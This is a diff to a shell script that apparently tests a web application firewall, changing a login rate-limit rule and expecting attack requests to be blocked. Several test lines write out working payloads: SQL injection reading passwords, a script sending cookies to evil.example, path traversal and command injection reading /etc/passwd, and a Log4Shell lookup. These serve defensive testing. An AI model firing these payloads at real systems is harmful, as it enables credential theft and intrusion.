@@ -71,7 +71,14 @@ rules = ["$here/rules/*.rules"]
 name = "logins"
 key = ["address"]
 rate = "5/1m"
-match = { methods = ["POST"], paths = ["/login"] }
+match = { route = ["login"] }
+
+[[site]]
+name = "shop"
+[[site.route]]
+name = "login"
+path = "/login"
+methods = ["POST"]
 CONF
 
 "$here/build/demoapi" -listen "127.0.0.1:$api" 2>"$dir/backend.log" &
@@ -123,7 +130,7 @@ show 201 "a comment of 300 KB, in chunks"                 -H "$json" -H 'Transfe
 show 403 "SQL injection in the query"                     "$base/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-"
 show 403 "a script in a JSON body"                        -H "$json" -d '{"text":"<script>fetch(\"//evil.example/\"+document.cookie)</script>"}' "$base/comments"
 show 403 "the same, in chunks"                            -H "$json" -H 'Transfer-Encoding: chunked' -d '{"text":"<script>fetch(\"//evil.example/\"+document.cookie)</script>"}' "$base/comments"
-show 403 "path traversal"                                 --path-as-is "$base/items/../../../../etc/passwd"
+show 403 "path traversal in a parameter"                  "$base/items?file=../../../../etc/passwd"
 show 403 "a Log4Shell lookup in a header"                 -H 'User-Agent: ${jndi:ldap://evil.example/a}' "$base/items"
 show 403 "a shell command in a form"                      -d 'host=127.0.0.1;cat /etc/passwd' "$base/comments"
 show 401 "a wrong password (1 of 5 a minute)"             -H "$json" -d '{"user":"alice","password":"guess"}' "$base/login"
